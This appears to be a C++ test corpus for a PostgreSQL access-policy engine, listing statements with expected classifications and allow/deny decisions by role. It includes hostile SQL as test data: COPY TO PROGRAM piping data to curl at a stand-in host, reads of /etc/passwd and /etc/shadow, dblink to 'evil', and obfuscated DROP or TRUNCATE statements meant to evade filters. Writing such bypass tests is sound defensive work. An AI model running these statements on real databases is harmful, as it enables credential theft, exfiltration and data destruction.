// The statement corpus: each row is a statement, who sends it, what analysis
// must find (kind, class) and what the policy must decide (outcome and rule),
// under the sample policy of config.md. Security rows are named for the bypass
// they prevent; must-still-allow rows for what must keep working.
#include <gtest/gtest.h>

#include <string>

#include "policy/decide.h"
#include "sql/analyzer.h"

namespace gh::policy {
namespace {

struct Row {
  const char* name;
  const char* who;  // reader | writer | dba | agent
  const char* sql;
  const char* kind;
  const char* cls;
  const char* outcome;  // allow | deny | unanalyzable
  const char* rule;
};

// clang-format off
const Row kCorpus[] = {
    {"SimpleSelectIsRead", "reader", R"__(SELECT * FROM t)__", "select", "read", "allow", "readers"},
    {"QualifiedSelectIsRead", "reader", R"__(SELECT id FROM public.t WHERE id = 1)__", "select", "read", "allow", "readers"},
    {"SecretSchemaIsOutsideTheAllowList", "reader", R"__(SELECT * FROM secret.t)__", "select", "read", "deny", "default-deny"},
    {"JoinWithOneForbiddenTableIsDenied", "reader", R"__(SELECT * FROM public.a JOIN secret.b ON a.id = b.id)__", "select", "read", "deny", "default-deny"},
    {"SubqueryInWhereReadsItsTable", "reader", R"__(SELECT 1 FROM public.a WHERE id IN (SELECT id FROM secret.b))__", "select", "read", "deny", "default-deny"},
    {"SubqueryInSelectListReadsItsTable", "reader", R"__(SELECT (SELECT max(x) FROM secret.b) FROM public.a)__", "select", "read", "deny", "default-deny"},
    {"SubqueryInOrderByReadsItsTable", "reader", R"__(SELECT * FROM public.a ORDER BY (SELECT 1 FROM secret.b LIMIT 1))__", "select", "read", "deny", "default-deny"},
    {"LateralSubqueryReadsItsTable", "reader", R"__(SELECT * FROM public.a, LATERAL (SELECT * FROM secret.b WHERE b.id = a.id) s)__", "select", "read", "deny", "default-deny"},
    {"UnionArmReadsItsTable", "reader", R"__(SELECT id FROM public.a UNION SELECT id FROM secret.b)__", "select", "read", "deny", "default-deny"},
    {"IntersectArmReadsItsTable", "reader", R"__(SELECT id FROM public.a INTERSECT SELECT id FROM secret.b)__", "select", "read", "deny", "default-deny"},
    {"ExceptArmReadsItsTable", "reader", R"__(SELECT id FROM public.a EXCEPT SELECT id FROM secret.b)__", "select", "read", "deny", "default-deny"},
    {"UnionOfAllowedTablesIsAllowed", "reader", R"__(SELECT id FROM public.a UNION ALL SELECT id FROM public.b)__", "select", "read", "allow", "readers"},
    {"CteReadingSecretIsDenied", "reader", R"__(WITH x AS (SELECT * FROM secret.b) SELECT * FROM x)__", "select", "read", "deny", "default-deny"},
    {"CteNameIsNotATable", "reader", R"__(WITH secret_stuff AS (SELECT 1 AS v) SELECT * FROM secret_stuff)__", "select", "read", "allow", "readers"},
    {"InnerCteDoesNotHideOuterRealTable", "writer", R"__(SELECT * FROM pg_authid, (WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid) s)__", "select", "read", "deny", "default-deny"},
    {"NonRecursiveCteBodySeesTheRealTable", "writer", R"__(WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid)__", "select", "read", "deny", "default-deny"},
    {"RecursiveCteIsRead", "reader", R"__(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n)__", "select", "read", "allow", "readers"},
    {"ValuesIsRead", "reader", R"__(VALUES (1), (2))__", "select", "read", "allow", "readers"},
    {"SelectWithoutFromIsRead", "reader", R"__(SELECT 1 + 1)__", "select", "read", "allow", "readers"},
    {"SelectVersionIsRead", "reader", R"__(SELECT version())__", "select", "read", "allow", "readers"},
    {"CurrentSettingIsRead", "reader", R"__(SELECT current_setting('work_mem'))__", "select", "read", "allow", "readers"},
    {"ShowServerVersionIsRead", "reader", R"__(SHOW server_version)__", "show", "read", "allow", "readers"},
    {"ShowAllIsRead", "reader", R"__(SHOW ALL)__", "show", "read", "allow", "readers"},
    {"LiteralDropTableIsJustAString", "reader", R"__(SELECT 'DROP TABLE x')__", "select", "read", "allow", "readers"},
    {"ColumnNamedDeleteIsAllowed", "reader", R"__(SELECT 1 AS "delete")__", "select", "read", "allow", "readers"},
    {"ColumnNamedDropIsAllowed", "reader", R"__(SELECT "drop" FROM public.t)__", "select", "read", "allow", "readers"},
    {"QuotedTableNamedUpdateIsAllowed", "reader", R"__(SELECT * FROM public."update")__", "select", "read", "allow", "readers"},
    {"CommentMentioningDropIsIgnored", "reader", R"__(SELECT 1 -- DROP TABLE t)__", "select", "read", "allow", "readers"},
    {"BlockCommentMentioningDeleteIsIgnored", "reader", R"__(SELECT /* DELETE FROM t */ 1)__", "select", "read", "allow", "readers"},
    {"DollarQuotedDropIsAString", "reader", R"__(SELECT $$DROP TABLE t$$)__", "select", "read", "allow", "readers"},
    {"TaggedDollarQuoteIsAString", "reader", R"__(SELECT $tag$ ; DROP TABLE t; $tag$)__", "select", "read", "allow", "readers"},
    {"EscapeStringWithQuoteIsAString", "reader", R"__(SELECT E'O\'Brien; DROP TABLE t')__", "select", "read", "allow", "readers"},
    {"InsertIsAWrite", "reader", R"__(INSERT INTO public.t VALUES (1))__", "insert", "write", "deny", "default-deny"},
    {"UpdateIsAWrite", "reader", R"__(UPDATE public.t SET v = 1 WHERE id = 1)__", "update", "write", "deny", "default-deny"},
    {"DeleteIsAWrite", "reader", R"__(DELETE FROM public.t WHERE id = 1)__", "delete", "write", "deny", "default-deny"},
    {"MergeIsAWrite", "reader", R"__(MERGE INTO public.t USING public.s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v)__", "merge", "write", "deny", "default-deny"},
    {"CteDeleteIsAWrite", "reader", R"__(WITH x AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM x)__", "select", "write", "deny", "default-deny"},
    {"CteInsertIsAWrite", "reader", R"__(WITH x AS (INSERT INTO public.t VALUES (1) RETURNING *) SELECT * FROM x)__", "select", "write", "deny", "default-deny"},
    {"CteUpdateIsAWrite", "reader", R"__(WITH x AS (UPDATE public.t SET v = 1 WHERE id = 2 RETURNING *) SELECT count(*) FROM x)__", "select", "write", "deny", "default-deny"},
    {"NestedCteDeleteIsAWrite", "reader", R"__(WITH a AS (WITH b AS (DELETE FROM public.t WHERE id = 3 RETURNING id) SELECT * FROM b) SELECT * FROM a)__", "select", "write", "deny", "default-deny"},
    {"SubqueryCteDeleteIsAWrite", "reader", R"__(SELECT * FROM (WITH d AS (DELETE FROM public.t WHERE id = 4 RETURNING id) SELECT * FROM d) s)__", "select", "write", "deny", "default-deny"},
    {"SelectForUpdateIsAWrite", "reader", R"__(SELECT * FROM public.t FOR UPDATE)__", "select", "write", "deny", "default-deny"},
    {"SelectForShareIsAWrite", "reader", R"__(SELECT * FROM public.t FOR SHARE)__", "select", "write", "deny", "default-deny"},
    {"SelectForNoKeyUpdateIsAWrite", "reader", R"__(SELECT * FROM public.t FOR NO KEY UPDATE SKIP LOCKED)__", "select", "write", "deny", "default-deny"},
    {"ExplainIsARead", "reader", R"__(EXPLAIN SELECT * FROM public.t)__", "explain", "read", "allow", "readers"},
    {"ExplainOfDeleteRunsNothing", "reader", R"__(EXPLAIN DELETE FROM public.t WHERE id = 1)__", "explain", "read", "allow", "readers"},
    {"ExplainAnalyzeDeleteIsAWrite", "reader", R"__(EXPLAIN ANALYZE DELETE FROM public.t WHERE id = 1)__", "explain_analyze", "write", "deny", "default-deny"},
    {"ExplainAnalyzeParenthesisedIsAWrite", "reader", R"__(EXPLAIN (ANALYZE, BUFFERS) UPDATE public.t SET v = 1 WHERE id = 1)__", "explain_analyze", "write", "deny", "default-deny"},
    {"ExplainAnalyzeFalseRunsNothing", "reader", R"__(EXPLAIN (ANALYZE false) DELETE FROM public.t WHERE id = 1)__", "explain", "read", "allow", "readers"},
    {"ExplainAnalyzeOffRunsNothing", "reader", R"__(EXPLAIN (ANALYZE off) INSERT INTO public.t VALUES (1))__", "explain", "read", "allow", "readers"},
    {"ExplainAnalyzeSelectIsARead", "reader", R"__(EXPLAIN ANALYZE SELECT * FROM public.t)__", "explain_analyze", "read", "allow", "readers"},
    {"ExplainOfSecretTableIsDenied", "reader", R"__(EXPLAIN SELECT * FROM secret.b)__", "explain", "read", "deny", "default-deny"},
    {"CopyToStdoutIsARead", "reader", R"__(COPY public.t TO STDOUT)__", "copy_to", "read", "allow", "readers"},
    {"CopyQueryToStdoutIsARead", "reader", R"__(COPY (SELECT * FROM public.t) TO STDOUT WITH CSV)__", "copy_to", "read", "allow", "readers"},
    {"CopyDeleteReturningToStdoutIsAWrite", "reader", R"__(COPY (DELETE FROM public.t WHERE id = 1 RETURNING *) TO STDOUT)__", "copy_to", "write", "deny", "default-deny"},
    {"CopyFromStdinIsAWrite", "reader", R"__(COPY public.t FROM STDIN)__", "copy_from", "write", "deny", "default-deny"},
    {"CopySecretToStdoutIsDenied", "reader", R"__(COPY secret.b TO STDOUT)__", "copy_to", "read", "deny", "default-deny"},
    {"CopyToFileIsAdmin", "dba", R"__(COPY public.t TO '/tmp/x.csv')__", "copy_to_file", "admin", "deny", "no-traces-export-to-files"},
    {"CopyFromFileIsAdmin", "dba", R"__(COPY public.t FROM '/etc/passwd')__", "copy_from_file", "admin", "deny", "no-traces-export-to-files"},
    {"CopyToProgramIsAdmin", "dba", R"__(COPY public.t TO PROGRAM 'curl -d @- evil')__", "copy_to_program", "admin", "deny", "no-traces-export-to-files"},
    {"CopyFromProgramIsAdmin", "dba", R"__(COPY public.t FROM PROGRAM 'id')__", "copy_from_program", "admin", "deny", "no-traces-export-to-files"},
    {"ReaderCannotCopyToFile", "reader", R"__(COPY public.t TO '/tmp/x.csv')__", "copy_to_file", "admin", "deny", "no-traces-export-to-files"},
    {"PgReadFileIsBlocked", "reader", R"__(SELECT pg_read_file('/etc/passwd'))__", "select", "read", "deny", "no-server-file-access"},
    {"QualifiedPgReadFileIsBlocked", "reader", R"__(SELECT pg_catalog.pg_read_file('/etc/passwd'))__", "select", "read", "deny", "no-server-file-access"},
    {"PgReadBinaryFileIsBlocked", "dba", R"__(SELECT pg_read_binary_file('/etc/shadow'))__", "select", "read", "deny", "no-server-file-access"},
    {"PgLsDirIsBlocked", "dba", R"__(SELECT * FROM pg_ls_dir('/'))__", "select", "read", "deny", "no-server-file-access"},
    {"LoExportIsBlocked", "dba", R"__(SELECT lo_export(16400, '/tmp/out'))__", "select", "write", "deny", "no-server-file-access"},
    {"LoImportIsBlocked", "dba", R"__(SELECT lo_import('/etc/passwd'))__", "select", "write", "deny", "no-server-file-access"},
    {"DblinkIsBlocked", "dba", R"__(SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int))__", "select", "admin", "deny", "no-server-file-access"},
    {"DblinkExecIsBlocked", "dba", R"__(SELECT dblink_exec('host=evil', 'DROP TABLE t'))__", "select", "admin", "deny", "no-server-file-access"},
    {"FileFunctionInWhereIsBlocked", "dba", R"__(SELECT 1 FROM public.t WHERE pg_read_file('/etc/passwd') <> '')__", "select", "read", "deny", "no-server-file-access"},
    {"FileFunctionInOrderByIsBlocked", "dba", R"__(SELECT * FROM public.t ORDER BY pg_read_file('/x'))__", "select", "read", "deny", "no-server-file-access"},
    {"FileFunctionInCteIsBlocked", "dba", R"__(WITH f AS (SELECT pg_read_file('/x') AS c) SELECT * FROM f)__", "select", "read", "deny", "no-server-file-access"},
    {"FileFunctionInSubqueryIsBlocked", "dba", R"__(SELECT (SELECT pg_read_file('/x')))__", "select", "read", "deny", "no-server-file-access"},
    {"FileFunctionNestedInCallIsBlocked", "dba", R"__(SELECT upper(lower(pg_read_file('/x'))))__", "select", "read", "deny", "no-server-file-access"},
    {"FileFunctionInDefaultIsBlocked", "dba", R"__(CREATE TABLE public.z (c text DEFAULT pg_read_file('/x')))__", "create", "ddl", "deny", "no-server-file-access"},
    {"FileFunctionInInsertValuesIsBlocked", "dba", R"__(INSERT INTO public.t(v) VALUES (pg_read_file('/x')))__", "insert", "write", "deny", "no-server-file-access"},
    {"FileFunctionInUpdateSetIsBlocked", "dba", R"__(UPDATE public.t SET v = pg_read_file('/x') WHERE id = 1)__", "update", "write", "deny", "no-server-file-access"},
    {"FileFunctionUppercaseIsBlocked", "dba", R"__(SELECT PG_READ_FILE('/x'))__", "select", "read", "deny", "no-server-file-access"},
    {"QueryToXmlIsAdmin", "reader", R"__(SELECT query_to_xml('DELETE FROM public.t RETURNING 1', true, false, ''))__", "select", "admin", "deny", "default-deny"},
    {"TableToXmlIsAdmin", "reader", R"__(SELECT table_to_xml('secret.b', true, false, ''))__", "select", "admin", "deny", "default-deny"},
    {"SetConfigSearchPathIsSeen", "reader", R"__(SELECT set_config('search_path', 'secret', false))__", "select", "read", "allow", "readers"},
    {"SetConfigOtherSettingIsRead", "reader", R"__(SELECT set_config('application_name', 'x', false))__", "select", "read", "allow", "readers"},
    {"DropTableIsBlocked", "dba", R"__(DROP TABLE public.t)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropMixedCaseIsBlocked", "dba", R"__(DrOp TaBlE public.t)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropWithCommentInsideIsBlocked", "dba", R"__(DrOp/**/TABLE public.t)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropWithNestedCommentIsBlocked", "dba", R"__(DROP /* outer /* inner */ still comment */ TABLE public.t)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropAfterLineCommentIsBlocked", "dba", R"__(-- harmless
DROP TABLE public.t)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropIfExistsIsBlocked", "dba", R"__(DROP TABLE IF EXISTS public.t CASCADE)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropViewIsBlocked", "dba", R"__(DROP VIEW public.v)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropSchemaIsBlocked", "dba", R"__(DROP SCHEMA secret CASCADE)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropDatabaseIsBlocked", "dba", R"__(DROP DATABASE app)__", "drop", "admin", "deny", "no-destructive-ddl"},
    {"DropRoleIsBlocked", "dba", R"__(DROP ROLE bob)__", "drop", "admin", "deny", "no-destructive-ddl"},
    {"DropFunctionIsBlocked", "dba", R"__(DROP FUNCTION f(int))__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropIndexIsBlocked", "dba", R"__(DROP INDEX public.i)__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"TruncateIsBlocked", "dba", R"__(TRUNCATE public.t)__", "truncate", "ddl", "deny", "no-destructive-ddl"},
    {"TruncateManyIsBlocked", "dba", R"__(TRUNCATE TABLE public.a, public.b RESTART IDENTITY)__", "truncate", "ddl", "deny", "no-destructive-ddl"},
    {"AlterSystemIsBlocked", "dba", R"__(ALTER SYSTEM SET work_mem = '1GB')__", "alter_system", "admin", "deny", "no-destructive-ddl"},
    {"QuotedIdentifierUnicodeEscapeStillDrops", "dba", R"__(DROP TABLE U&"d\0061ta")__", "drop", "ddl", "deny", "no-destructive-ddl"},
    {"DropInsideMultiStatementIsBlocked", "dba", R"__(SELECT 1; DROP TABLE public.t)__", "select", "ddl", "deny", "no-destructive-ddl"},
    {"DropAfterEscapedQuoteIsBlocked", "dba", R"__(SELECT E'O\'Brien'; DROP TABLE public.t)__", "select", "ddl", "deny", "no-destructive-ddl"},
    {"DropAfterDollarQuoteIsBlocked", "dba", R"__(SELECT $a$ ; $a$; DROP TABLE public.t)__", "select", "ddl", "deny", "no-destructive-ddl"},
    {"DropAfterStandardQuoteIsBlocked", "dba", R"__(SELECT 'it''s'; DROP TABLE public.t)__", "select", "ddl", "deny", "no-destructive-ddl"},
    {"TruncateThirdOfThreeIsBlocked", "dba", R"__(SELECT 1; SELECT 2; TRUNCATE public.t)__", "select", "ddl", "deny", "no-destructive-ddl"},
    {"DeleteWithoutWhereIsBlocked", "dba", R"__(DELETE FROM public.t)__", "delete", "write", "deny", "no-unbounded-writes"},
    {"UpdateWithoutWhereIsBlocked", "dba", R"__(UPDATE public.t SET v = 0)__", "update", "write", "deny", "no-unbounded-writes"},
    {"DeleteWithWhereIsAllowed", "dba", R"__(DELETE FROM public.t WHERE id = 1)__", "delete", "write", "allow", "dba"},
    {"UpdateWithWhereIsAllowed", "dba", R"__(UPDATE public.t SET v = 0 WHERE id = 1)__", "update", "write", "allow", "dba"},
    {"DeleteWhereTrueHasAWhere", "dba", R"__(DELETE FROM public.t WHERE true)__", "delete", "write", "allow", "dba"},
    {"DeleteUsingWithoutWhereIsBlocked", "dba", R"__(DELETE FROM public.t USING public.s)__", "delete", "write", "deny", "no-unbounded-writes"},
    {"CteDeleteWithoutWhereIsBlocked", "dba", R"__(WITH x AS (DELETE FROM public.t RETURNING *) SELECT * FROM x)__", "select", "write", "deny", "no-unbounded-writes"},
    {"ExplainAnalyzeDeleteWithoutWhereIsBlocked", "dba", R"__(EXPLAIN ANALYZE DELETE FROM public.t)__", "explain_analyze", "write", "deny", "no-unbounded-writes"},
    {"CopyDeleteWithoutWhereIsBlocked", "dba", R"__(COPY (DELETE FROM public.t RETURNING *) TO STDOUT)__", "copy_to", "write", "deny", "no-unbounded-writes"},
    {"ExplainDeleteWithoutWhereRunsNothing", "dba", R"__(EXPLAIN DELETE FROM public.t)__", "explain", "read", "allow", "dba"},
    {"UpdateFromWithoutWhereIsBlocked", "dba", R"__(UPDATE public.t SET v = s.v FROM public.s)__", "update", "write", "deny", "no-unbounded-writes"},
    {"MultiStatementUnboundedDeleteIsBlocked", "dba", R"__(SELECT 1; DELETE FROM public.t)__", "select", "write", "deny", "no-unbounded-writes"},
    {"MergeDeleteIsNotUnbounded", "dba", R"__(MERGE INTO public.t USING public.s ON t.id = s.id WHEN MATCHED THEN DELETE)__", "merge", "write", "allow", "dba"},
    {"InsertSelectIsAllowedForWriter", "writer", R"__(INSERT INTO public.t SELECT * FROM public.s)__", "insert", "write", "allow", "writers"},
    {"InsertSelectFromSecretIsDenied", "writer", R"__(INSERT INTO public.t SELECT * FROM secret.b)__", "insert", "write", "deny", "default-deny"},
    {"InsertOnConflictIsAWrite", "writer", R"__(INSERT INTO public.t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v)__", "insert", "write", "allow", "writers"},
    {"WriterCannotDoDdl", "writer", R"__(CREATE TABLE public.n (id int))__", "create", "ddl", "deny", "default-deny"},
    {"WriterCannotWriteSecret", "writer", R"__(UPDATE secret.b SET x = 1 WHERE id = 1)__", "update", "write", "deny", "default-deny"},
    {"WriterMergeIsAllowed", "writer", R"__(MERGE INTO public.t USING public.s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id))__", "merge", "write", "allow", "writers"},
    {"SelectIntoCreatesATable", "writer", R"__(SELECT * INTO public.n FROM public.t)__", "create", "ddl", "deny", "default-deny"},
    {"CreateTableAsCreatesATable", "writer", R"__(CREATE TABLE public.n AS SELECT * FROM public.t)__", "create", "ddl", "deny", "default-deny"},
    {"DbaSelectIntoIsAllowed", "dba", R"__(SELECT * INTO public.n FROM public.t)__", "create", "ddl", "allow", "dba"},
    {"CreateTableIsDdl", "dba", R"__(CREATE TABLE public.n (id int primary key))__", "create", "ddl", "allow", "dba"},
    {"CreateIndexIsDdl", "dba", R"__(CREATE INDEX ON public.t (v))__", "create", "ddl", "allow", "dba"},
    {"CreateViewIsDdl", "dba", R"__(CREATE VIEW public.v AS SELECT * FROM public.t)__", "create", "ddl", "allow", "dba"},
    {"ReaderCannotCreateAViewOverSecret", "reader", R"__(CREATE VIEW public.v AS SELECT * FROM secret.b)__", "create", "ddl", "deny", "default-deny"},
    {"AlterTableIsDdl", "dba", R"__(ALTER TABLE public.t ADD COLUMN c int)__", "alter", "ddl", "allow", "dba"},
    {"CommentIsDdl", "dba", R"__(COMMENT ON TABLE public.t IS 'x')__", "comment", "ddl", "allow", "dba"},
    {"CreateSchemaIsDdl", "dba", R"__(CREATE SCHEMA s2)__", "create", "ddl", "allow", "dba"},
    {"CreateSequenceIsDdl", "dba", R"__(CREATE SEQUENCE public.sq)__", "create", "ddl", "allow", "dba"},
    {"CreateTriggerIsDdl", "dba", R"__(CREATE TRIGGER tr AFTER INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION f())__", "create", "ddl", "allow", "dba"},
    {"CreateRuleIsDdl", "dba", R"__(CREATE RULE r AS ON INSERT TO public.t DO INSTEAD NOTHING)__", "create", "ddl", "allow", "dba"},
    {"CreateFunctionIsDdl", "dba", R"__(CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM public.t; SELECT 1 $$)__", "create_function", "ddl", "allow", "dba"},
    {"CreateFunctionBodyIsOpaque", "dba", R"__(CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END)__", "create_function", "ddl", "allow", "dba"},
    {"CreateProcedureIsDdl", "dba", R"__(CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$)__", "create_function", "ddl", "allow", "dba"},
    {"AgentCannotCreateFunction", "agent", R"__(CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1')__", "create_function", "ddl", "deny", "no-dynamic-sql-for-agents"},
    {"CreateExtensionIsAdmin", "dba", R"__(CREATE EXTENSION dblink)__", "create_extension", "admin", "allow", "dba"},
    {"CreateRoleIsAdmin", "dba", R"__(CREATE ROLE bob LOGIN)__", "create_role", "admin", "allow", "dba"},
    {"AlterRoleIsAdmin", "dba", R"__(ALTER ROLE bob SUPERUSER)__", "alter_role", "admin", "allow", "dba"},
    {"GrantIsAdmin", "dba", R"__(GRANT SELECT ON public.t TO bob)__", "grant", "admin", "allow", "dba"},
    {"RevokeIsAdmin", "dba", R"__(REVOKE SELECT ON public.t FROM bob)__", "revoke", "admin", "allow", "dba"},
    {"GrantRoleIsAdmin", "dba", R"__(GRANT pg_read_server_files TO bob)__", "grant", "admin", "allow", "dba"},
    {"ReaderCannotGrant", "reader", R"__(GRANT SELECT ON public.t TO PUBLIC)__", "grant", "admin", "deny", "default-deny"},
    {"DoIsAdmin", "dba", R"__(DO $$ BEGIN DELETE FROM public.t; END $$)__", "do", "admin", "allow", "dba"},
    {"DoIsOpaqueForReaders", "reader", R"__(DO $$ BEGIN PERFORM 1; END $$)__", "do", "admin", "deny", "default-deny"},
    {"AgentCannotDo", "agent", R"__(DO $$ BEGIN NULL; END $$)__", "do", "admin", "deny", "no-dynamic-sql-for-agents"},
    {"DoWithLanguageIsAdmin", "dba", R"__(DO LANGUAGE plpgsql $body$ BEGIN NULL; END $body$)__", "do", "admin", "allow", "dba"},
    {"CallIsAdmin", "dba", R"__(CALL p(1))__", "call", "admin", "allow", "dba"},
    {"AgentCannotCall", "agent", R"__(CALL p())__", "call", "admin", "deny", "no-dynamic-sql-for-agents"},
    {"ReaderCannotCall", "reader", R"__(CALL public.p())__", "call", "admin", "deny", "default-deny"},
    {"SetRoleIsAdmin", "reader", R"__(SET ROLE postgres)__", "set_role", "admin", "deny", "default-deny"},
    {"SetSessionAuthorizationIsAdmin", "reader", R"__(SET SESSION AUTHORIZATION postgres)__", "set_role", "admin", "deny", "default-deny"},
    {"ResetRoleIsSetRole", "dba", R"__(RESET ROLE)__", "set_role", "admin", "allow", "dba"},
    {"VacuumIsAdmin", "dba", R"__(VACUUM public.t)__", "vacuum", "admin", "allow", "dba"},
    {"VacuumFullIsAdmin", "reader", R"__(VACUUM FULL)__", "vacuum", "admin", "deny", "default-deny"},
    {"AnalyzeIsAdmin", "dba", R"__(ANALYZE public.t)__", "analyze", "admin", "allow", "dba"},
    {"ReindexIsAdmin", "dba", R"__(REINDEX TABLE public.t)__", "reindex", "admin", "allow", "dba"},
    {"ClusterIsAdmin", "dba", R"__(CLUSTER public.t USING i)__", "cluster", "admin", "allow", "dba"},
    {"CheckpointIsAdmin", "reader", R"__(CHECKPOINT)__", "checkpoint", "admin", "deny", "default-deny"},
    {"LoadIsAdmin", "reader", R"__(LOAD 'plpgsql')__", "load", "admin", "deny", "default-deny"},
    {"LockIsAWrite", "reader", R"__(LOCK TABLE public.t IN ACCESS EXCLUSIVE MODE)__", "lock", "write", "deny", "default-deny"},
    {"RefreshIsAWrite", "reader", R"__(REFRESH MATERIALIZED VIEW public.mv)__", "refresh", "write", "deny", "default-deny"},
    {"NotifyIsAWrite", "reader", R"__(NOTIFY ch, 'payload')__", "notify", "write", "deny", "default-deny"},
    {"ListenIsSession", "reader", R"__(LISTEN ch)__", "listen", "session", "allow", "session-statement"},
    {"UnlistenIsSession", "reader", R"__(UNLISTEN *)__", "unlisten", "session", "allow", "session-statement"},
    {"BeginIsSession", "reader", R"__(BEGIN)__", "transaction", "session", "allow", "session-statement"},
    {"BeginIsolationIsSession", "reader", R"__(BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY)__", "transaction", "session", "allow", "session-statement"},
    {"CommitIsSession", "reader", R"__(COMMIT)__", "transaction", "session", "allow", "session-statement"},
    {"RollbackIsSession", "reader", R"__(ROLLBACK)__", "transaction", "session", "allow", "session-statement"},
    {"SavepointIsSession", "reader", R"__(SAVEPOINT s1)__", "transaction", "session", "allow", "session-statement"},
    {"RollbackToSavepointIsSession", "reader", R"__(ROLLBACK TO SAVEPOINT s1)__", "transaction", "session", "allow", "session-statement"},
    {"ReleaseSavepointIsSession", "reader", R"__(RELEASE SAVEPOINT s1)__", "transaction", "session", "allow", "session-statement"},
    {"StartTransactionIsSession", "reader", R"__(START TRANSACTION)__", "transaction", "session", "allow", "session-statement"},
    {"SetTransactionIsSession", "reader", R"__(SET TRANSACTION ISOLATION LEVEL REPEATABLE READ)__", "transaction", "session", "allow", "session-statement"},
    {"PrepareTransactionIsSession", "dba", R"__(PREPARE TRANSACTION 'x')__", "transaction", "session", "allow", "session-statement"},
    {"SetIsSession", "reader", R"__(SET work_mem = '64MB')__", "set", "session", "allow", "session-statement"},
    {"SetLocalIsSession", "reader", R"__(SET LOCAL statement_timeout = 1000)__", "set", "session", "allow", "session-statement"},
    {"ResetIsSession", "reader", R"__(RESET work_mem)__", "set", "session", "allow", "session-statement"},
    {"ResetAllIsSession", "reader", R"__(RESET ALL)__", "set", "session", "allow", "session-statement"},
    {"SetSearchPathIsSession", "reader", R"__(SET search_path = secret, public)__", "set", "session", "allow", "session-statement"},
    {"DiscardAllIsSession", "reader", R"__(DISCARD ALL)__", "discard", "session", "allow", "session-statement"},
    {"DeallocateIsSession", "reader", R"__(DEALLOCATE ALL)__", "deallocate", "session", "allow", "session-statement"},
    {"PrepareSelectIsRead", "reader", R"__(PREPARE q AS SELECT * FROM public.t WHERE id = $1)__", "prepare", "read", "allow", "readers"},
    {"PrepareDeleteIsAWrite", "reader", R"__(PREPARE q AS DELETE FROM public.t WHERE id = $1)__", "prepare", "write", "deny", "default-deny"},
    {"PrepareSecretSelectIsDenied", "reader", R"__(PREPARE q AS SELECT * FROM secret.b)__", "prepare", "read", "deny", "default-deny"},
    {"PrepareUnboundedDeleteIsBlocked", "dba", R"__(PREPARE q AS DELETE FROM public.t)__", "prepare", "write", "deny", "no-unbounded-writes"},
    {"ExecuteUnknownIsUnanalyzable", "reader", R"__(EXECUTE nobody_prepared_this)__", "execute", "session", "unanalyzable", "unanalyzable"},
    {"ExecuteOfPreparedSelectIsRead", "reader", R"__(EXECUTE sel(1))__", "execute", "session", "allow", "readers"},
    {"ExecuteOfPreparedDeleteIsAWrite", "reader", R"__(EXECUTE del(1))__", "execute", "session", "deny", "default-deny"},
    {"ExplainAnalyzeExecuteOfDeleteIsAWrite", "reader", R"__(EXPLAIN ANALYZE EXECUTE del(1))__", "explain_analyze", "read", "deny", "default-deny"},
    {"DeclareCursorIsRead", "reader", R"__(DECLARE c CURSOR FOR SELECT * FROM public.t)__", "declare", "read", "allow", "readers"},
    {"DeclareCursorOnSecretIsDenied", "reader", R"__(DECLARE c CURSOR FOR SELECT * FROM secret.b)__", "declare", "read", "deny", "default-deny"},
    {"FetchIsRead", "reader", R"__(FETCH 10 FROM c)__", "fetch", "read", "allow", "readers"},
    {"CloseIsSession", "reader", R"__(CLOSE c)__", "close", "session", "allow", "session-statement"},
    {"PsqlDescribeTableQuery", "reader", R"__(SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3)__", "select", "read", "allow", "readers"},
    {"PsqlListTablesQuery", "reader", R"__(SELECT n.nspname as "Schema", c.relname as "Name" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','v','m','S','f','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' ORDER BY 1,2)__", "select", "read", "allow", "readers"},
    {"PsqlColumnsQuery", "reader", R"__(SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum)__", "select", "read", "allow", "readers"},
    {"InformationSchemaColumnsQuery", "reader", R"__(SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' ORDER BY table_name, ordinal_position)__", "select", "read", "allow", "readers"},
    {"SqlAlchemyHasTableQuery", "reader", R"__(SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace WHERE pg_catalog.pg_class.relname = 't' AND pg_catalog.pg_table_is_visible(pg_catalog.pg_class.oid))__", "select", "read", "allow", "readers"},
    {"HibernateSequenceQuery", "reader", R"__(SELECT sequence_name FROM information_schema.sequences)__", "select", "read", "allow", "readers"},
